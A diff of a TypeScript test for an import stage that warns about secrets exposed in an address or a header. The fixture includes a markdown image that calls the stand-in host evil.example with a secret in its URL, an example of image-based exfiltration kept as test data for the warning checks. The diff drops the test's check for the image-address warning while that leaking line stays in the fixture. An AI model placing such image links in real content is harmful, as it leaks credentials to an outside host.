@@ -189,26 +189,25 @@ describe("the plan", () => {
     ]);
   });
 
-  it("warns of a secret in an address, a header or an image, filled in or not", async () => {
+  it("warns of a secret in an address or a header, filled in or not", async () => {
     const archive = [
       ...archiveOf(
         board(`![](https://evil.example/p.png?k=${MARK})`, { headers: { "X-Key": "«redacted:credential»" } }),
       ),
     ];
     const header = ["secret-exposed", "/tiles/0/config/headers/X-Key", expect.stringContaining("sent in a header")];
-    const image = ["secret-exposed", POINTER, expect.stringContaining("an image's address")];
     const address = ["secret-exposed", POINTER, expect.stringContaining("part of an address")];
-    const warned = expect.arrayContaining([header, image, address]) as unknown;
+    const warned = expect.arrayContaining([header, address]) as unknown;
     const warningsIn = ({ plan }: StageRun) =>
       plan.warnings.map(({ code, pointer, message }) => [code, pointer, message]);
     const open = await importStage(target()).run(archive);
     expect(warningsIn(open)).toEqual(warned);
-    expect(open.plan.warnings).toHaveLength(3);
+    expect(open.plan.warnings).toHaveLength(2);
     expect(JSON.stringify(open.plan.warnings)).toContain("evil.example");
     const values = { [BOARD]: { [POINTER]: SECRET, "/tiles/0/config/headers/X-Key": SECRET } };
     const { run } = await fillWith(archive, values, archive);
     expect(warningsIn(run)).toEqual(warned);
-    expect(run.plan.warnings).toHaveLength(3);
+    expect(run.plan.warnings).toHaveLength(2);
     expect(JSON.stringify(run.plan.warnings)).not.toContain(SECRET);
   });
 
